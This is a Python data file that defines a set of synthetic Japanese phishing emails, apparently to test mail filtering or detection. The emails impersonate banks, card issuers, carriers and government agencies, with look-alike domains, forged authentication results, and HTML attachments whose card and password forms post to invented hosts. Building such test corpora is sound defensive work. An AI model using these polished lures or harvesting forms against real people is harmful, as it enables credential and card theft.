# Phishing specs. Every phishing domain/URL here is INVENTED for this set.
from engine import enc_zip, png
MAILS = []
def M(**k):
    MAILS.append(k)

M(file='amazon-payment-method-update-lookalike-dmarc-pass-gmail', brand='Amazon.co.jp', tricks='look-alike domain amazon-acct-support.com with own SPF/DKIM/DMARC pass; link text shows https://www.amazon.co.jp/ but href goes to look-alike; polite copied wording',
  **{'from': ('Amazon.co.jp', 'account-update@amazon-acct-support.com')}, to='k.tanaka1984@gmail.com', auth=('pass', 'pass', 'pass'), p='NONE',
  subj='Amazon.co.jp：お支払い方法の情報を更新してください',
  body='''田中 様

Amazon.co.jp をご利用いただきありがとうございます。

お客様のアカウントに登録されているお支払い方法の有効期限が切れているため、ご注文の処理を完了できませんでした。
お手数ですが、以下よりお支払い方法の情報を更新してください。

[[https://www.amazon.co.jp/gp/css/account/payment|https://amazon-acct-support.com/ap/signin?openid=jp&ref_=pe_2640190]]

48時間以内に更新が確認できない場合、ご注文はキャンセルされ、アカウントの一部機能が制限されます。

Amazon.co.jp カスタマーサービス''', color='#ff9900')

M(file='rakuten-card-unauthorized-use-forged-from-dmarc-fail-docomo', brand='楽天カード', tricks='From forged as rakuten-card.co.jp; SPF softfail from VPS; DMARC fail at docomo; text/plain; short deadline; link to invented rakuten-card-secure.top',
  **{'from': ('楽天カード株式会社', 'info@mail.rakuten-card.co.jp')}, env='bounce@vps-2291.hostbrain.xyz', to='yuki.s-0412@docomo.ne.jp', mbox='docomo', auth=('softfail', 'none', 'fail'),
  subj='【楽天カード】カードご利用の確認のお願い', kind='plain', cte='base64', nl='crlf',
  body='''楽天カードをご利用いただきありがとうございます。

お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知いたしました。
お客様のカードを保護するため、現在カードのご利用を一時的に制限しております。

下記URLよりご本人様確認のうえ、ご利用制限の解除手続きを行ってください。

https://rakuten-card-secure.top/e-navi/login?id=28831

※本日中にお手続きいただけない場合、カードは利用停止となります。

楽天カード株式会社
https://www.rakuten-card.co.jp/''')

M(file='smbc-direct-id-expiry-iso2022jp-compromised-jp-company-sender', brand='三井住友銀行', tricks='sent from a compromised-looking small Japanese company domain (invented hayashi-kougyou.co.jp) with SPF pass; display name of the bank; ISO-2022-JP; CP932 ① chars; link to invented smbc-direct.jp-login.cc',
  **{'from': ('三井住友銀行', 'soumu@hayashi-kougyou.co.jp')}, to='m.kobayashi@biglobe.ne.jp', mbox='biglobe', auth=('pass', 'none', 'none'), cs='jis', cte='7bit', hcs='jis', kind='plain',
  subj='【三井住友銀行】ワンタイムパスワードの有効期限について（重要）',
  body='''三井住友銀行をご利用いただき誠にありがとうございます。

お客さまのSMBCダイレクトのワンタイムパスワード（アプリ）の有効期限が近づいております。
以下の手順で再登録をお願いいたします。

① 下記URLよりSMBCダイレクトにログイン
② お客さま情報の確認
③ ワンタイムパスワードの再登録

https://smbc-direct.jp-login.cc/ib/login

期限：本メール受信後24時間以内

㈱三井住友銀行
'''.replace('㈱三井住友銀行', '株式会社三井住友銀行'))

M(file='sagawa-absent-delivery-sms-style-utf8-8bit-au', brand='佐川急便', tricks='SMS-style one-liner from free-mail (invented-looking gmail user); link to invented sagawa-exp.yjqt.cn; no HTML',
  **{'from': ('佐川急便', 'sgw.delivery.notice2291@gmail.com')}, to='hiro-0725@au.com', mbox='au', auth=('pass', 'pass', 'pass'), dkim_d='gmail.com', p='NONE',
  subj='お荷物のお届けにあがりましたが不在の為持ち帰りました', kind='plain', cte='8bit',
  body='''お荷物のお届けにあがりましたが不在の為持ち帰りました。ご確認ください。
https://sagawa-exp.yjqt.cn/?q=0392''')

M(file='mufg-phishing-warning-that-is-itself-phish-html-only', brand='三菱UFJ銀行', tricks='mail warns "当行を装った不審なメールにご注意ください" while itself being the fake; HTML-only; link text is official https://www.bk.mufg.jp/ but href to invented mufg-anzen.com; attacker domain passes SPF/DKIM, DMARC none',
  **{'from': ('三菱UFJ銀行', 'oshirase@mufg-anzen.com')}, to='s.watanabe@outlook.jp', mbox='m365', auth=('pass', 'pass', 'none'), kind='html', cte='quoted-printable',
  subj='【三菱UFJ銀行】当行を装った不審なメールにご注意ください／セキュリティ強化のお願い',
  body='''いつも三菱UFJ銀行をご利用いただき、ありがとうございます。

最近、当行を装った不審なメールやSMSが確認されております。メール内のリンクから暗証番号等を入力しないようご注意ください。

つきましては、お客さまの口座を保護するため、セキュリティ強化のご登録をお願いしております。
下記の当行公式サイトよりご登録ください。

[[https://www.bk.mufg.jp/|https://www.mufg-anzen.com/direct/entry.html]]

登録期限：2025年10月31日

株式会社三菱UFJ銀行''', color='#d50021')

M(file='yamato-redelivery-via-esp-click-tracker-open-redirect', brand='ヤマト運輸', tricks='link goes through a legitimate-looking ESP click tracker (invented click.mlsend-jp.net) whose url= param points to invented kuroneko-yamato.help; sender is bulk-ESP domain passing DMARC',
  **{'from': ('ヤマト運輸', 'noreply@notify.kuroneko-delivery-info.com')}, to='ayaka.m@gmail.com', auth=('pass', 'pass', 'pass'), p='NONE', cte='quoted-printable',
  subj='【ヤマト運輸】お荷物お届けのお知らせ（ご不在連絡）',
  body='''ヤマト運輸をご利用いただきありがとうございます。

本日お荷物をお届けにあがりましたが、ご不在でしたので持ち帰りました。

■お問い合わせ伝票番号：4521-8830-1934
■お届け予定日時：ご指定がありません

再配達のご依頼は下記よりお願いいたします。
[[再配達のご依頼はこちら|https://click.mlsend-jp.net/c/v1?uid=8812&url=https%3A%2F%2Fkuroneko-yamato.help%2Fredelivery%3Fno%3D452188301934]]

保管期限を過ぎますと、お荷物は差出人へ返送されます。

ヤマト運輸株式会社''', color='#1b9d48')

M(file='ntt-docomo-billing-failure-shiftjis-forged-dmarc-fail-ocn', brand='NTTドコモ', tricks='forged From docomo.ne.jp; DMARC fail at OCN; Shift_JIS 8bit; "お支払いが確認できません" phrasing; link to invented docomo-mypage.pay-check.net',
  **{'from': ('NTTドコモ', 'info@docomo.ne.jp')}, env='root@mail.kb-server41.ru', to='t.ishikawa@ocn.ne.jp', mbox='ocn', auth=('fail', 'none', 'fail'), cs='sjis', cte='8bit', hcs='sjis', kind='plain',
  subj='【ドコモ】ご利用料金のお支払いが確認できません',
  body='''いつもドコモをご利用いただき誠にありがとうございます。

お客様の今月分のご利用料金について、お支払いが確認できておりません。
このままの状態が続きますと、回線のご利用を停止させていただく場合がございます。

下記よりお支払い方法のご確認をお願いいたします。
https://docomo-mypage.pay-check.net/dcm/login

※本メールは送信専用です。

株式会社NTTドコモ''')

M(file='mercari-account-suspended-eucjp-lookalike', brand='メルカリ', tricks='EUC-JP base64; look-alike mercari-jp-support.com with SPF pass DKIM pass DMARC none; "アカウントを一時停止しました"',
  **{'from': ('メルカリ事務局', 'support@mercari-jp-support.com')}, to='nao.fujii@yahoo.co.jp', mbox='yahoo', auth=('pass', 'pass', 'none'), cs='euc', cte='base64', hcs='euc',
  subj='【メルカリ】アカウントを一時停止しました',
  body='''いつもメルカリをご利用いただきありがとうございます。

お客さまのアカウントにおいて、利用規約に違反する可能性のある取引が確認されたため、アカウントを一時停止いたしました。

再開をご希望の場合は、下記より本人確認を行ってください。
[[本人確認を行う|https://mercari-jp-support.com/verify/identity?token=b71c2a]]

72時間以内に確認が取れない場合、売上金は没収となります。

メルカリ事務局''', color='#ff0211')

M(file='jcb-myjcb-confirm-qr-only-image-related', brand='JCB', tricks='QR-only mail: body text tells user to scan inline PNG (no clickable link); multipart/related; sender invented jcb-card-info.net passes SPF only',
  **{'from': ('MyJCB', 'myjcb@jcb-card-info.net')}, to='r.endo@nifty.com', mbox='nifty', auth=('pass', 'none', 'none'), kind='related',
  subj='【MyJCB】重要：ご利用確認のお願い（スマートフォンで読み取ってください）',
  body='''JCBカードをご利用いただきありがとうございます。

お客様のカードで通常と異なるご利用が確認されました。
安全のため、スマートフォンで下記のQRコードを読み取り、ご本人様確認を完了してください。

※パソコンからはお手続きいただけません。
※24時間以内にお手続きがない場合、カードのご利用を停止いたします。

株式会社ジェーシービー''', hx='<p><img src="cid:qr01@jcb" width="200" height="200" alt="QR"></p>', att=[('qr.png', 'image/png', png('jcb-qr'), 'inline', 'qr01@jcb')])

M(file='aeon-card-callback-only-no-link', brand='イオンカード', tricks='call-back-only: no URL, asks to phone an invented 050 number; sender free-mail outlook.com with brand display name',
  **{'from': ('イオンカード センター', 'aeoncard-center-jp@outlook.com')}, to='e.yamada@softbank.ne.jp', mbox='softbank', auth=('pass', 'pass', 'pass'), dkim_d='outlook.com', kind='plain', cte='base64',
  subj='【イオンカード】お客様のカードご利用に関する確認（至急）',
  body='''イオンカードをご利用いただきありがとうございます。

お客様のカードにて、下記の高額なご利用がございました。

ご利用日：2025年9月18日
ご利用先：APPLE COM BILL
ご利用金額：98,800円

お心当たりのない場合は、至急下記のカードセキュリティデスクまでお電話ください。
050-5482-3917（24時間受付）

お電話の際は、カード番号と有効期限をお手元にご用意ください。

イオンフィナンシャルサービス株式会社''')

M(file='sbi-securities-tax-document-password-zip-attachment', brand='SBI証券', tricks='password-protected ZIP attachment ("特定口座年間取引報告書") with password in the same mail; sender invented sbi-sec-report.jp passing SPF/DKIM',
  **{'from': ('SBI証券', 'report@sbi-sec-report.jp')}, to='k.nakamura@gmail.com', auth=('pass', 'pass', 'none'), kind='mixed', cte='base64',
  subj='【SBI証券】特定口座年間取引報告書の送付について',
  body='''お客様各位

平素はSBI証券をご利用いただき誠にありがとうございます。

特定口座年間取引報告書を添付ファイルにてお送りいたします。
セキュリティのため、ファイルはパスワード付きZIP形式となっております。

解凍パスワード：Sbi2025rep

内容をご確認のうえ、記載事項に相違がある場合は添付の手順に従いご連絡ください。

株式会社SBI証券''', att=[('nenkan_torihiki_2025.zip', 'application/zip', enc_zip('nenkan_torihiki_2025.html', 'sbi'))])

M(file='japanpost-customs-fee-html-form-attachment', brand='日本郵便', tricks='HTML attachment containing a credential/card form posting to invented host; short body; sender invented jp-post-delivery.com DKIM pass',
  **{'from': ('日本郵便', 'delivery@jp-post-delivery.com')}, to='s.goto@biglobe.ne.jp', mbox='biglobe', auth=('pass', 'pass', 'none'), kind='mixed', cte='quoted-printable',
  subj='【日本郵便】関税のお支払いについて（お荷物お預かり中）',
  body='''日本郵便をご利用いただきありがとうございます。

海外からお客様宛のお荷物について、関税（210円）のお支払いが確認できていないため、お預かりしております。

添付ファイルを開き、お支払い情報をご入力ください。

日本郵便株式会社''', att=[('payment_form.html', 'text/html', '<html><head><meta charset="utf-8"><title>日本郵便 お支払い</title></head><body><h2>関税お支払い</h2><form action="https://jp-post-delivery.com/pay/submit.php" method="post">氏名<input name="n"><br>カード番号<input name="c"><br>有効期限<input name="e"><br>セキュリティコード<input name="v"><br><input type="submit" value="支払う"></form></body></html>'.encode('utf-8'))])

M(file='microsoft365-password-expiry-thread-hijack-reply', brand='Microsoft 365 (取引先経由)', tricks='thread hijack: Re: reply quoting a real-looking earlier business exchange, sent from a look-alike of the partner domain (invented tokyo-seimitsu-co.jp vs original tokyo-seimitsu.co.jp); asks to open "shared invoice" at invented sharepoint-lookalike host',
  **{'from': ('佐々木 健一', 'k.sasaki@tokyo-seimitsu-co.jp')}, to='h.morita@example-shoji.co.jp', mbox='m365', auth=('pass', 'pass', 'pass'), kind='plain', cte='base64', nl='crlf',
  xh=[('In-Reply-To', '<TYWP286MB21970A1B2C3D@TYWP286MB2197.JPNP286.PROD.OUTLOOK.COM>'), ('References', '<TYWP286MB21970A1B2C3D@TYWP286MB2197.JPNP286.PROD.OUTLOOK.COM>')],
  subj='Re: 10月分ご請求書の件',
  body='''森田様

いつもお世話になっております。東京精密の佐々木です。

ご連絡が遅くなり申し訳ございません。
振込先口座の変更に伴い、10月分の請求書を再発行いたしました。
下記より請求書をご確認いただけますでしょうか。

https://tokyoseimitsu-my.sharepoint-docs.net/:b:/g/personal/k_sasaki/invoice_oct.pdf

お手数をおかけしますが、本日中にご確認いただけますと幸いです。

佐々木

-----Original Message-----
From: 森田 裕之 <h.morita@example-shoji.co.jp>
Sent: Tuesday, October 7, 2025 10:14 AM
To: 佐々木 健一 <k.sasaki@tokyo-seimitsu.co.jp>
Subject: 10月分ご請求書の件

佐々木様

お世話になっております。10月分のご請求書はいつ頃いただけますでしょうか。
よろしくお願いいたします。

森田''')

M(file='eki-net-points-expiry-utf8-qp-split-subject', brand='えきねっと (JR東日本)', tricks='subject encoded-words split mid-character; invented eki-net-point.com passing SPF/DKIM/DMARC; points-expiry lure; link text official www.eki-net.com',
  **{'from': ('えきねっと', 'info@eki-net-point.com')}, to='y.hasegawa@icloud.com', mbox='icloud', auth=('pass', 'pass', 'pass'), cte='quoted-printable', split=17,
  subj='【えきねっと】JRE POINTの有効期限が近づいています（本日まで）',
  body='''えきねっとをご利用いただきありがとうございます。

お客様が保有されているJRE POINT 3,840ポイントが本日失効いたします。
ポイントを継続するには、下記より会員情報をご確認ください。

[[https://www.eki-net.com/|https://eki-net-point.com/member/login?p=expire]]

東日本旅客鉄道株式会社''', color='#008803')

M(file='nta-etax-refund-notice-government-impersonation', brand='国税庁', tricks='government impersonation (e-Tax refund); From nta.go.jp forged; DMARC fail at Gmail; link to invented nta-etax-refund.com; HTML alternative',
  **{'from': ('国税庁', 'etax-info@nta.go.jp')}, env='mailer@sv83.shop-cloud-jp.com', to='a.matsumoto@gmail.com', auth=('softfail', 'none', 'fail'), p='REJECT',
  subj='【国税庁】所得税の還付金のお知らせ',
  body='''納税者様

令和6年分の所得税について、還付金が発生しております。
還付金（38,500円）のお受け取り手続きを下記より行ってください。

[[e-Taxで還付手続きを行う|https://nta-etax-refund.com/kanpu/apply]]

手続き期限：2025年11月30日
期限を過ぎると還付を受けることができなくなります。

国税庁''')

M(file='epos-card-reward-lookalike-via-google-open-redirect', brand='エポスカード', tricks='link through google.com/url open-redirect to invented eposcard-point.shop; sender invented look-alike passing DMARC',
  **{'from': ('エポスカード', 'news@eposcard-member.com')}, to='miki.oda@docomo.ne.jp', mbox='docomo', auth=('pass', 'pass', 'pass'), kind='html', cte='base64',
  subj='【エポスカード】ご利用確認のお願い',
  body='''エポスカードをご利用いただきありがとうございます。

不正利用防止のため、お客様のカードのご利用を一時的に保留しております。
下記より、ご利用内容をご確認ください。

[[エポスNetにログイン|https://www.google.com/url?q=https://eposcard-point.shop/login&sa=D&usg=AOvVaw3x]]

株式会社エポスカード''', color='#e60033')

M(file='paypay-account-lock-sms-plain-softbank', brand='PayPay', tricks='SMS-style; forged From paypay.ne.jp with DMARC fail at softbank.ne.jp; invented paypay-secure.vip link',
  **{'from': ('PayPay', 'no-reply@paypay.ne.jp')}, env='info@mkt-mail-cn.xyz', to='daiki.k@i.softbank.jp', mbox='softbank', auth=('fail', 'none', 'fail'), kind='plain', cte='8bit',
  subj='【PayPay】お客様のアカウントがロックされました',
  body='''【PayPay】お客様のアカウントに異常なログインが検出されたため、ロックされました。下記より本人確認を行ってください。
https://paypay-secure.vip/verify''')

M(file='au-pay-card-payment-failure-euc-jp-8bit', brand='au PAY カード', tricks='EUC-JP 8bit text/plain; invented aupay-card-info.com; payment failure reminder tone; DMARC none',
  **{'from': ('au PAY カード', 'info@aupay-card-info.com')}, to='m.ueda@au.com', mbox='au', auth=('pass', 'none', 'none'), cs='euc', cte='8bit', hcs='euc', kind='plain',
  subj='【au PAY カード】ご請求金額のお引き落としができませんでした',
  body='''au PAY カードをご利用いただきありがとうございます。

ご登録の口座からのお引き落としができませんでした。
お支払いが確認できない場合、カードのご利用を停止させていただきます。

お支払い方法の変更はこちら：
https://aupay-card-info.com/member/pay

auフィナンシャルサービス株式会社''')

M(file='netflix-payment-declined-english-mixed-template', brand='Netflix', tricks='Japanese/English mixed template; invented netflix-billing-jp.com; sender passes SPF/DKIM/DMARC; HTML link button',
  **{'from': ('Netflix', 'info@netflix-billing-jp.com')}, to='kenta.h@gmail.com', auth=('pass', 'pass', 'pass'), p='NONE',
  subj='お支払いに問題があります - Netflix',
  body='''お客様のメンバーシップは保留になっています

次回のお支払いを処理できませんでした。お支払い情報を更新して、引き続きNetflixをお楽しみください。

[[お支払い情報を更新|https://netflix-billing-jp.com/YourAccount/payment]]

ご不明な点はヘルプセンターまでお問い合わせください。
-Netflixチーム''', color='#e50914')

M(file='tepco-electricity-refund-iso2022jp-html', brand='東京電力エナジーパートナー', tricks='utility impersonation; ISO-2022-JP HTML-only; invented tepco-kanpu.net; DMARC none',
  **{'from': ('東京電力エナジーパートナー', 'info@tepco-kanpu.net')}, to='n.sato@ocn.ne.jp', mbox='ocn', auth=('pass', 'none', 'none'), cs='jis', cte='7bit', hcs='jis', kind='html',
  subj='【東京電力】電気料金の過払い金返還のお知らせ',
  body='''お客さま各位

平素より東京電力エナジーパートナーをご利用いただき、誠にありがとうございます。

料金システムの不具合により、お客さまの電気料金に過払いが発生していることが判明いたしました。
返還金（4,280円）のお受け取りには、下記よりお手続きをお願いいたします。

[[返還手続きはこちら|https://tepco-kanpu.net/refund/form]]

東京電力エナジーパートナー株式会社''')

M(file='apple-id-locked-hidden-link-text-official', brand='Apple', tricks='link text https://appleid.apple.com/ but href to invented appleid-jp-support.com; polite wording; DMARC pass on attacker domain',
  **{'from': ('Apple', 'noreply@appleid-jp-support.com')}, to='s.ikeda@icloud.com', mbox='icloud', auth=('pass', 'pass', 'pass'), kind='html',
  subj='Apple IDがセキュリティ上の理由でロックされています',
  body='''お客様のApple IDは、セキュリティ上の理由によりロックされています。

お客様のアカウントで通常とは異なるサインインが検出されました。アカウントのロックを解除するには、本人確認を行ってください。

[[https://appleid.apple.com/|https://appleid-jp-support.com/account/unlock]]

Apple サポート''')

M(file='mizuho-direct-reconfirm-cp932-base64', brand='みずほ銀行', tricks='CP932 (Shift_JIS label) base64 multipart; invented mizuho-bk-direct.com; ① chars; 2026 date',
  **{'from': ('みずほ銀行', 'direct@mizuho-bk-direct.com')}, to='t.aoki@nifty.com', mbox='nifty', auth=('pass', 'pass', 'none'), cs='sjis', cte='base64', hcs='sjis', year=2026,
  subj='【みずほ銀行】お客さま情報の確認のお願い',
  body='''みずほダイレクトをご利用いただき、ありがとうございます。

犯罪収益移転防止法に基づき、お客さま情報の定期的な確認をお願いしております。
① ログイン
② お客さま情報の確認・更新
③ 完了

[[みずほダイレクトにログイン|https://mizuho-bk-direct.com/direct/login]]

期限までにご回答いただけない場合、お取引を制限させていただくことがあります。

株式会社みずほ銀行''', color='#002c8e')

M(file='rakuten-securities-login-alert-compromised-wordpress-host', brand='楽天証券', tricks='link to a path on an invented compromised-looking small business site (kobayashi-seikotsuin.jp/wp-content/...); sender look-alike passing SPF only',
  **{'from': ('楽天証券', 'info@rakuten-sec-alert.com')}, to='j.ogawa@gmail.com', auth=('pass', 'none', 'none'),
  subj='【楽天証券】ログイン通知（重要）',
  body='''楽天証券をご利用いただきありがとうございます。

お客様のアカウントに新しい端末からのログインがありました。

日時：2025/08/14 03:12
端末：Windows / Chrome
IPアドレス：185.220.xx.xx

お客様ご自身によるログインでない場合は、直ちに下記より取引暗証番号の変更を行ってください。
[[ログイン履歴の確認|https://kobayashi-seikotsuin.jp/wp-content/uploads/rs/member/login.php]]

楽天証券株式会社''')

M(file='ana-mileage-expiry-reply-to-freemail', brand='ANA', tricks='invented ana-mileage-club.net sender; Reply-To a free-mail; mileage expiry lure',
  **{'from': ('ANAマイレージクラブ', 'amc@ana-mileage-club.net')}, to='k.mori@yahoo.co.jp', mbox='yahoo', auth=('pass', 'pass', 'pass'), xh=[('Reply-To', 'ana.amc.desk@outlook.com')],
  subj='【ANA】ご登録のマイルが失効します',
  body='''ANAマイレージクラブ会員 様

いつもANAをご利用いただきありがとうございます。
お客様の12,500マイルが今月末で有効期限を迎えます。

マイルの延長手続きは下記より行えます。
[[マイル延長手続き|https://ana-mileage-club.net/amc/extend]]

全日本空輸株式会社''', color='#13448f')

M(file='line-account-verification-forged-from-dmarc-fail-m365', brand='LINE', tricks='forged From line.me; DMARC fail at Microsoft 365 (compauth fail); invented line-verify.cc',
  **{'from': ('LINE', 'no-reply@line.me')}, env='admin@smtp-relay77.top', to='r.kondo@contoso-jp.onmicrosoft.com', mbox='m365', auth=('fail', 'none', 'fail'), kind='plain', cte='base64',
  subj='【LINE】本人確認のお願い',
  body='''LINEをご利用いただきありがとうございます。

お客様のアカウントが別の端末でログインされようとしました。
アカウントを保護するため、24時間以内に本人確認を完了してください。

https://line-verify.cc/auth?lang=ja

LINEヤフー株式会社''')

M(file='mynumber-point-campaign-lg-jp-lookalike', brand='デジタル庁 (マイナポイント)', tricks='government impersonation with look-alike "mynapoint-go.jp.net"; SPF/DKIM pass; ISO-2022-JP multipart',
  **{'from': ('マイナポイント事務局', 'info@mynapoint-go.jp.net')}, to='h.kimura@biglobe.ne.jp', mbox='biglobe', auth=('pass', 'pass', 'none'), cs='jis', cte='7bit', hcs='jis',
  subj='【マイナポイント】未受取ポイントの申請期限について',
  body='''マイナンバーカードをお持ちの皆さまへ

マイナポイント（最大20,000円分）の未受取分がございます。
申請期限が迫っておりますので、下記より申請を完了してください。

[[マイナポイント申請|https://mynapoint-go.jp.net/apply]]

マイナポイント事務局''')

M(file='yahoo-japan-id-password-reset-not-requested', brand='Yahoo! JAPAN', tricks='fake password-reset mail ("心当たりがない場合はこちら" link is the phish); invented yahoo-japan-id.info; DMARC pass',
  **{'from': ('Yahoo! JAPAN', 'account-security@yahoo-japan-id.info')}, to='s.nishida@yahoo.co.jp', mbox='yahoo', auth=('pass', 'pass', 'pass'),
  subj='【Yahoo! JAPAN】パスワード再設定のお知らせ',
  body='''Yahoo! JAPAN IDのパスワード再設定が申請されました。

お客様ご自身による操作でない場合は、第三者による不正アクセスの可能性があります。
下記より直ちにアカウントを保護してください。

[[心当たりがない場合はこちら|https://yahoo-japan-id.info/security/protect?c=ja]]

LINEヤフー株式会社''')

M(file='ufj-nicos-card-stopped-sjis-raw-subject', brand='三菱UFJニコス', tricks='raw 8bit Shift_JIS subject (unencoded header); invented nicos-card-check.com; forged-looking display name',
  **{'from': ('MUFGカード', 'support@nicos-card-check.com')}, to='y.inoue@ocn.ne.jp', mbox='ocn', auth=('none', 'none', 'none'), cs='sjis', cte='8bit', hcs='sjis', sm='raw', kind='plain',
  subj='【MUFGカード】カードのご利用を一時停止しました',
  body='''MUFGカードをご利用いただきありがとうございます。

弊社では不正利用防止のためモニタリングを行っております。
お客様のカードに不審なご利用が確認されたため、カードのご利用を一時停止いたしました。

ご利用再開のお手続き：
https://nicos-card-check.com/mufg/reopen

三菱UFJニコス株式会社''')

M(file='dhl-invoice-html-attachment-english-japanese', brand='DHL Japan', tricks='HTML attachment opens a login page; bilingual; compromised-looking JP exporter sender (invented nishikawa-trading.co.jp) passing SPF',
  **{'from': ('DHL Express Japan', 'export@nishikawa-trading.co.jp')}, to='info@sakura-zakka.jp', mbox='sakura', auth=('pass', 'none', 'none'), kind='mixed',
  subj='DHL Shipment Notification : 輸入関税インボイス',
  body='''お客様各位

お荷物の輸入に関するインボイスを添付いたします。
添付ファイルを開き、ご確認のうえお手続きをお願いいたします。

Dear Customer, please find the attached invoice for your shipment.

DHL Japan''', att=[('DHL_Invoice_88301.html', 'text/html', b'<html><body><script>document.title="DHL";</script><form action="https://dhl-invoice-portal.net/auth" method="post"><input name="email"><input type="password" name="pw"><button>View</button></form></body></html>')])
